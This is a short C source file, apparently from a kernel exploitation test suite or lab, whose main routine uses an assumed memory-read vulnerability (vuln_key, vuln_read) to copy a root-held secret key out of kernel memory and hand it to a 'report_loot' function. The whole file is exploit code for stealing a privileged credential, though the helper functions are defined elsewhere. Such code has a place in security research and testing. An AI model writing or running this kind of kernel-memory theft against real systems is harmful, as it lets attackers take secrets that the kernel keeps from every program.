// SPDX-License-Identifier: GPL-2.0-only
/*
 * Read a key of root that the kernel uses and gives to no program, where the
 * kernel keeps it.
 */
#include <string.h>

#include "common.h"

int main(int argc, char **argv)
{
	u64 addr = vuln_key(parse_number(argc > 1 ? argv[1] : NULL)), word;
	char token[TOKEN_LEN];
	size_t i;

	for (i = 0; i < sizeof(token); i += sizeof(word)) {
		word = vuln_read(addr + i);
		memcpy(token + i, &word, sizeof(word));
	}
	if (!is_token(token))
		die("this is not the key");
	report_loot(token);
	return 0;
}
